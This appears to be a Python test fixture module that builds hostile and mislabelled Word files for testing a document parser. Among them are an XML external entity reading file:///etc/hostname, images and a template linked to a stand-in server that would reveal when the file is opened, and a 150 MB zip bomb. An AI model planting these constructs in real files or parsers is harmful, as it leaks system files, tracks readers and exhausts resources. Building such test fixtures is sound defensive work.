"""Files that want to do harm, or are not what they say. Small ones: the large are made when they are tested."""

import io
import zipfile

from tests.files.documents.building import MOMENT, Document, drawing, paragraph
from tests.files.documents.making_articles import LEAD, TITLE

FOLDER = "hostile"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def plain() -> Document:
    """An article with nothing wrong."""
    return Document().add(paragraph(TITLE), paragraph(LEAD))


def external_picture() -> bytes:
    """The picture lies on somebody's server, who would learn when and where it is opened."""
    document = plain()
    link = document.link("image", "http://198.51.100.7/spy.png", external=True)
    template = document.link("attachedTemplate", "http://198.51.100.7/evil.dotm", external=True)
    assert template
    return document.add(
        paragraph(drawing(link)), paragraph(drawing(link, way="link")), paragraph("图为外部图片")
    ).saved()


def bomb() -> bytes:
    """One part of 150 MB that packs into a few kilobytes."""
    target = io.BytesIO(plain().saved())
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("word/media/image9.png", MOMENT), b"\0" * 150_000_000, zipfile.ZIP_DEFLATED)
    return target.getvalue()


def endless_elements() -> bytes:
    """A small file of more elements than any article has."""
    return Document().add("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 30_000).saved()


def nested_too_deep() -> bytes:
    """Nested deeper than any program can follow."""
    return Document().add("<w:sdt><w:sdtContent>" * 300 + "</w:sdtContent></w:sdt>" * 300).saved()


def files() -> dict[str, bytes]:
    """Every hostile file by name."""
    entity = plain().add("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>")
    entity.prolog = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
    late = plain()
    late.prolog = f'<!--{" " * 1_100_000}--><!DOCTYPE x [<!ENTITY e "expanded">]>'
    macro = plain()
    macro.kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    good = plain().saved()
    return {
        "external_picture.docx": external_picture(),
        "external_entity.docx": entity.saved(),
        "entity_behind_a_long_comment.docx": late.saved(),
        "macros_under_another_name.docx": macro.saved(),
        "truncated.docx": good[: len(good) // 2],
        "locked.docx": OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600,
        "really_an_old_word_file.docx": OLE + b"\0" * 600 + "WordDocument".encode("utf-16-le") + b"\0" * 600,
        "really_a_picture.docx": b"\xff\xd8\xff\xe0" + b"\0" * 100,
        "word_under_another_name.pdf": good,
        "broken_xml.docx": Document().add("<w:p>").saved(),
        "empty.docx": b"",
        "nothing_in_it.docx": Document().saved(),
        "bomb.docx": bomb(),
        "endless_elements.docx": endless_elements(),
        "nested_too_deep.docx": nested_too_deep(),
    }
